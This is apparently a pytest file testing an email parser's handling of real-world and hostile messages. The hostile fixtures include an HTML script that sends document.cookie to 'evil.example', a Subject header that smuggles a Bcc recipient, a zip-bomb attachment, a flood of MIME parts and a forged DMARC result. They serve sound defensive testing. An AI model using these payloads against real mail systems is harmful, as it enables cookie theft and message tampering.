"""Reading messages shaped like real ones: multipart, HTML only, quoted replies in several clients' styles,
signatures, other charsets, attachments, malformed headers; and what an attacker would send."""

from __future__ import annotations

import base64
import io
import zipfile
from datetime import UTC, datetime

import pytest

from homestretch.mailin.parsing import (
    MAX_PARTS,
    MessageRefused,
    dmarc_passed,
    html_to_text,
    parse_message,
    strip_reply,
)

from .messages import plain, with_attachment


def test_multipart_alternative_reads_the_plain_part():
    raw = plain(sender="Priya <priya@example.org>", to="Alice <alice@example.com>", cc="bob@example.com",
                body="Plain words.", html="<p>HTML words.</p>")
    parsed = parse_message(raw)
    assert parsed.new_text == "Plain words."
    assert (parsed.from_address, parsed.recipients) == ("priya@example.org", ("alice@example.com", "bob@example.com"))
    assert parsed.sent_at == datetime(2026, 11, 19, 15, 5, tzinfo=UTC)
    assert parsed.message_id == "m1@mail.example.org"


def test_html_only_is_turned_into_text_without_scripts_styles_or_images():
    html = """<html><head><title>t</title><style>p {color: red}</style>
    <script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
    <body><p>Hi Alice,</p><p>Globex offered <b>95k&nbsp;EUR</b>.</p>
    <img src="https://tracker.example/pixel.gif" alt="tracking pixel">
    <a href="https://phish.example">click</a><br>Priya
    <div class="gmail_quote">On Tue, Alice wrote:<blockquote>Any news?</blockquote></div></body></html>"""
    parsed = parse_message(plain(sender="priya@example.org", to="alice@example.com", body="", html=html))
    assert parsed.new_text == "Hi Alice,\n\nGlobex offered 95k EUR.\n\nclick\nPriya"
    for never in ("fetch", "evil.example", "tracker", "pixel", "phish.example", "color", "Any news"):
        assert never not in parsed.new_text


def test_outlook_html_reply_stops_at_its_reply_header():
    html = ('<div>Thanks, will do.</div><div id="divRplyFwdMsg"><b>From:</b> Alice<br><b>Sent:</b> Monday</div>'
            "<div>Old message</div>")
    assert html_to_text(html) == "Thanks, will do."


@pytest.mark.parametrize("reply", [
    # Gmail
    "Sounds good!\n\nOn Wed, 18 Nov 2026 at 10:00, Alice Archer <alice@example.com> wrote:\n> Shall we talk?\n",
    # Gmail, the attribution wrapped over two lines
    "Sounds good!\n\nOn Wed, 18 Nov 2026 at 10:00, Alice Archer <alice@example.com>\nwrote:\n\n> Shall we talk?",
    # Apple Mail
    "Sounds good!\n\n> On 18 Nov 2026, at 10:00, Alice Archer <alice@example.com> wrote:\n> \n> Shall we talk?",
    # Outlook desktop
    "Sounds good!\n\n-----Original Message-----\nFrom: Alice Archer\nSent: Wednesday, November 18, 2026 10:00 AM\n"
    "To: Priya\nSubject: Call\n\nShall we talk?",
    # Outlook on the web
    "Sounds good!\n\n________________________________\nFrom: Alice Archer <alice@example.com>\n"
    "Sent: Wednesday, 18 November 2026 10:00\nTo: Priya\nSubject: Call\n\nShall we talk?",
    # Outlook, bold headers in plain text
    "Sounds good!\n\n*From:* Alice Archer <alice@example.com>\n*Sent:* Wednesday\n*To:* Priya\n\nShall we talk?",
    # Thunderbird
    "Sounds good!\n\nOn 18/11/2026 10:00, Alice Archer wrote:\n> Shall we talk?",
    # French and German clients
    "Sounds good!\n\nLe mer. 18 nov. 2026 à 10:00, Alice Archer <alice@example.com> a écrit :\n> Shall we talk?",
    "Sounds good!\n\nAm Mi., 18. Nov. 2026 um 10:00 Uhr schrieb Alice Archer <alice@example.com>:\n> Shall we talk?",
    # Interleaved quoting (bottom-posting): only the unquoted lines are new
    "> Shall we talk?\nSounds good!\n> Tuesday?",
])
def test_quoted_replies_are_stripped_in_each_clients_style(reply):
    assert strip_reply(reply) == "Sounds good!"


@pytest.mark.parametrize("signed", [
    "Sounds good!\n\n-- \nPriya Nair\nSenior Engineer\n+49 170 000000",
    "Sounds good!\n\nSent from my iPhone",
    "Sounds good!\n\nGet Outlook for Android",
    "Sounds good!\n\nBest regards,\nPriya Nair\nSenior Engineer | Globex\n+49 170 000000\nwww.globex.example",
    "Sounds good!\n\nCheers,\nPriya",
])
def test_signatures_are_stripped(signed):
    assert strip_reply(signed) == "Sounds good!"


def test_a_long_message_ending_with_thanks_keeps_its_body():
    text = "Thanks for the call.\n" + "\n".join(f"Point {n}: something long enough to matter." for n in range(12))
    assert strip_reply(text) == text


@pytest.mark.parametrize(("charset", "text"), [
    ("iso-8859-1", "Très bien, à lundi. Gehalt: 95.000 EUR, Grüße"),
    ("windows-1252", "Très bien, à lundi. Gehalt: 95.000 € — merci"),
    ("iso-8859-15", "Très bien, à lundi. Gehalt: 95.000 €"),
    ("koi8-r", "Предложение: 95 000 EUR"),
])
def test_other_charsets_are_read(charset, text):
    raw = plain(sender="francois@example.org", to="alice@example.com", body=text, charset=charset)
    assert f"charset=\"{charset}\"" in raw.decode("ascii", "replace") or f"charset={charset}" in raw.decode(
        "ascii", "replace")
    assert parse_message(raw).new_text == text


def test_an_unknown_charset_is_read_as_well_as_it_can_be():
    raw = (b"From: priya@example.org\r\nTo: alice@example.com\r\nSubject: x\r\n"
           b"Content-Type: text/plain; charset=x-unknown-42\r\n\r\nCaf\xe9 ok\r\n")
    assert parse_message(raw).new_text == "Café ok"


def test_encoded_words_and_shift_jis_subjects():
    raw = (b"From: =?utf-8?q?Priya_N=C3=A4ir?= <priya@example.org>\r\nTo: alice@example.com\r\n"
           b"Subject: =?iso-2022-jp?b?GyRCJUYlOSVIGyhC?=\r\nContent-Type: text/plain; charset=shift_jis\r\n\r\n"
           + "テスト".encode("shift_jis") + b"\r\n")
    parsed = parse_message(raw)
    assert (parsed.from_address, parsed.subject, parsed.new_text) == ("priya@example.org", "テスト", "テスト")


@pytest.mark.parametrize("raw", [
    b"From: <<<>>>\r\nTo: ,,,@@@\r\nDate: not a date\r\nSubject: x\r\n\r\nbody",
    b"From: priya@example.org\r\nTo: alice@example.com\r\nDate: Thu, 45 Nov 2026 99:99:99 +9999\r\n\r\nbody",
    b"From: priya@example.org\r\nTo: =?utf-8?b?!!!notbase64?= <alice@example.com>\r\n\r\nbody",
    b"From: priya@example.org\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n--\r\nbroken",
    b"\x00\x01\x02 not an e-mail at all",
    b"",
])
def test_malformed_messages_are_read_or_refused_never_crash(raw):
    try:
        parsed = parse_message(raw)
    except MessageRefused as refused:
        assert refused.reason in ("unreadable", "no_sender")
    else:
        assert parsed.sent_at is None or parsed.sent_at.tzinfo is not None


def test_header_injection_stays_one_line():
    raw = (b"From: priya@example.org\r\nTo: alice@example.com\r\n"
           b"Subject: =?utf-8?q?Hello=0D=0ABcc:_victim@example.net=0D=0A?=\r\n\r\nbody")
    parsed = parse_message(raw)
    assert "\n" not in parsed.subject and "\r" not in parsed.subject
    assert "victim@example.net" not in parsed.recipients


def test_zip_bomb_attachment_is_counted_never_opened():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.txt", b"\0" * (200 * 1024 * 1024))  # 200 MB of zeros, a few hundred KB zipped
    raw = with_attachment(plain(sender="priya@example.org", to="alice@example.com", body="My CV"),
                          buffer.getvalue(), filename="cv.zip", subtype="zip")
    parsed = parse_message(raw)
    assert (parsed.attachments, parsed.new_text) == (1, "My CV")


def test_a_text_part_marked_as_an_attachment_is_not_read():
    raw = with_attachment(plain(sender="priya@example.org", to="alice@example.com", body="See attached"),
                          b"secret notes", filename="notes.txt", maintype="text", subtype="plain")
    assert parse_message(raw).new_text == "See attached"


def test_thousands_of_mime_parts_are_refused():
    boundary = "b"
    parts = "".join(f"--{boundary}\r\nContent-Type: text/plain\r\n\r\npart {n}\r\n" for n in range(MAX_PARTS + 5))
    raw = (f"From: priya@example.org\r\nTo: alice@example.com\r\nContent-Type: multipart/mixed; "
           f"boundary={boundary}\r\n\r\n{parts}--{boundary}--\r\n").encode()
    with pytest.raises(MessageRefused) as refused:
        parse_message(raw)
    assert refused.value.reason == "too_many_parts"


def test_a_forwarded_message_attached_as_rfc822_is_read_as_the_candidates():
    inner = plain(sender="priya@example.org", to="alice.old@agency.example", body="My news", subject="News",
                  message_id="<inner@x>", date="Tue, 17 Nov 2026 08:00:00 +0000")
    from email import message_from_bytes, policy

    outer = message_from_bytes(plain(sender="alice@example.com", to="log@drop.example", body="fyi",
                                     subject="Fwd: News"), policy=policy.default)
    outer.add_attachment(message_from_bytes(inner, policy=policy.default))
    parsed = parse_message(bytes(outer))
    assert (parsed.from_address, parsed.forwarded_by, parsed.message_id, parsed.new_text) == (
        "priya@example.org", "alice@example.com", "inner@x", "My news")


def test_base64_body_is_decoded():
    body = base64.b64encode(b"Hooli offered 100k USD").decode()
    raw = (f"From: priya@example.org\r\nTo: alice@example.com\r\nContent-Type: text/plain; charset=utf-8\r\n"
           f"Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n").encode()
    assert parse_message(raw).new_text == "Hooli offered 100k USD"


@pytest.mark.parametrize(("headers", "passed"), [
    (("mx.agency.example; dkim=pass header.d=globex.example; dmarc=pass header.from=globex.example",), True),
    (("mx.agency.example; spf=pass; dkim=fail; dmarc=fail",), False),
    (("mx.agency.example; dkim=pass header.d=globex.example",), True),
    (("mx.evil.example; dmarc=pass",), False),
    # The topmost header of our server counts; a pass further down was written by the sender.
    (("mx.agency.example; dmarc=fail", "mx.agency.example; dmarc=pass"), False),
    ((), False),
])
def test_only_our_mail_servers_verdict_is_believed(headers, passed):
    assert dmarc_passed(headers, "mx.agency.example") is passed
